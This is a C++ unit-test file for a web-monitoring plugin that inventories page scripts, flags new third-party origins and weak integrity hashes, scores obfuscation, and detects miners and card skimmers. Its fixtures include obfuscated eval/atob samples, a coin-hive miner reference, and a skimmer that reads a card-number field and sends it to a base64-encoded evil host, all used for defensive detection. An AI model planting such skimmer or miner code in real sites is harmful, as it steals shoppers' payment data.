#include <gtest/gtest.h>

#include <string>

#include "plugins/page_for_test.hpp"

namespace webmon::plugins {
namespace {

PluginOutput check(const std::string& html, std::string_view state = {}) {
  return run_plugin("scripts", page_for_test("<head>" + html), state);
}
std::string after(int checks, const std::string& html) {
  std::string state;
  for (int i = 0; i < checks; ++i) state = check(html, state).next_state;
  return state;
}
const std::string kOwn = "<script src=/a.js></script>";
const std::string kCdn = "<script src=https://cdn.example/b.js></script>";
const std::string kEvil = "<script src=//evil.example/c.js></script>";
std::string with_integrity(const std::string& value) {
  return "<script src=//cdn.example/b.js integrity='" + value + "'></script>";
}
std::string code(const std::string& text) { return "<script>" + text + "</script>"; }

TEST(Scripts, CountsWhoRunsCode) {
  const Report report = check(kOwn + kCdn + kEvil + code("a()") + code("b()")).report;
  EXPECT_EQ(report.state, ReportState::ok);
  EXPECT_EQ(value_of(report, "inline_count"), 2);
  EXPECT_EQ(value_of(report, "external_count"), 3);
  EXPECT_EQ(value_of(report, "third_party_count"), 2);
  EXPECT_EQ(value_of(report, "sri_missing"), 2);
  EXPECT_EQ(value_of(report, "inline_hashes_new"), 0) << "nothing was known";
  EXPECT_EQ(fact(report, "origins"), R"(["https://cdn.example","http://evil.example"])");
}

TEST(Scripts, WarnsOfANewOriginOnceThePageIsKnown) {
  const Report early = check(kCdn + kEvil, after(19, kCdn)).report;
  EXPECT_EQ(early.state, ReportState::ok);
  EXPECT_EQ(early.findings.at(0).code, "new_script_origin");
  const auto late = check(kCdn + kEvil, after(20, kCdn));
  EXPECT_EQ(late.report.reason, "new_script_origin");
  EXPECT_EQ(fact(late.report, "new_origins"), R"(["http://evil.example"])");
  EXPECT_EQ(check(kCdn + kEvil, late.next_state).report.state, ReportState::ok);
  EXPECT_EQ(check(kOwn, after(20, kCdn)).report.state, ReportState::ok);
}

TEST(Scripts, CountsInlineScriptsThatAreNew) {
  const auto state = after(1, code("a()") + code("b()"));
  EXPECT_EQ(value_of(check(code("a()") + code("b()"), state).report, "inline_hashes_new"), 0);
  EXPECT_EQ(value_of(check(code("a()") + code("c()"), state).report, "inline_hashes_new"), 1);
}

TEST(Scripts, WarnsOfIntegrityThatProtectsNothing) {
  struct Case {
    std::string value;
    bool is_bad;
  };
  for (const Case& c : {Case{"sha256-" + std::string(43, 'A') + "=", false},
                        Case{"sha384-" + std::string(64, 'A'), false},
                        Case{"md5-x sha512-" + std::string(86, 'A') + "==?opt", false},
                        Case{"sha256-" + std::string(42, 'A') + "=", true}, Case{"SHA256", true},
                        Case{"md5-abc", true}}) {
    SCOPED_TRACE(c.value);
    const Report report = check(with_integrity(c.value)).report;
    EXPECT_EQ(report.reason, c.is_bad ? "sri_bad" : "");
    EXPECT_EQ(value_of(report, "sri_bad"), c.is_bad ? 1 : 0);
    EXPECT_EQ(value_of(report, "sri_missing"), 0);
  }
  EXPECT_EQ(value_of(check(with_integrity(" ")).report, "sri_missing"), 1);
}

TEST(Scripts, ScoresWhatHidesTheMeaningOfCode) {
  const auto score = [](const std::string& text) {
    return value_of(check(code(text)).report, "obfuscation_score");
  };
  std::string escapes, names;
  for (int i = 0; i < 20; ++i) {
    escapes += "\\x41";
    names += "_0x12f" + std::to_string(i) + "+";
  }
  EXPECT_EQ(score("function add(a,b){return a+b}"), 0);
  EXPECT_EQ(score("!function(e,t){e.exports=t()}(this,function(){return{a:1}});"), 0) << "minified";
  EXPECT_EQ(score("eval(atob('YQ=='))"), 30);
  EXPECT_EQ(score("x='" + escapes + "'"), 25);
  EXPECT_EQ(score("x='" + escapes.substr(4) + "'"), 0) << "19 escapes";
  EXPECT_EQ(score("eval(unescape(String.fromCharCode(" + names + escapes + "))); p,a,c,k,e,d"),
            100);
}

TEST(Scripts, FindsMinersAndSkimmersByTheirContext) {
  EXPECT_EQ(check("<script src=https://coin-hive.com/lib/x.js></script>").report.reason, "miner");
  EXPECT_EQ(check(code("new CoinHive.Anonymous('key').start()")).report.reason, "miner");
  const std::string skimmer =
      "var f=document.querySelector('[name=cc_number]').value;"
      "new Image().src=atob('aHR0cHM6Ly9ldmls')+'?'+f";
  const Report report = check(code(skimmer)).report;
  EXPECT_EQ(report.state, ReportState::crit);
  EXPECT_EQ(report.reason, "skimmer");
  EXPECT_EQ(report.facts.at("miner_or_skimmer_hits").as_array().size(), 1U);
  // A check-out's own code, a lone word, and somebody else's words in a text are none.
  for (const char* harmless :
       {"fetch('/pay',{body:JSON.stringify({cc_number:n.value,cvv:c.value})})",
        "atob('x'); new Image().src='/pixel'", "// coinhive is no more"}) {
    EXPECT_EQ(check(code(harmless)).report.state, ReportState::ok) << harmless;
  }
}

TEST(Scripts, BoundsAHostilePage) {
  std::string many;
  for (int i = 0; i < 500; ++i) {
    many += "<script src=//h" + std::to_string(i) + ".example/\xff></script>" +
            code("CoinHive.Anonymous" + std::to_string(i));
  }
  const auto output = check(many, "a state of something else");
  EXPECT_LE(output.report.findings.size(), 10U);
  EXPECT_EQ(output.report.facts.at("origins").as_array().size(), 20U);
  EXPECT_EQ(fact(check(many, output.next_state).report, "new_origins"), "(none)");
}

TEST(Scripts, SkipsWhatIsNotHtml) {
  EXPECT_EQ(run_plugin("scripts", page_for_test("{}", "application/json"), "kept").next_state,
            "kept");
}

}  // namespace
}  // namespace webmon::plugins
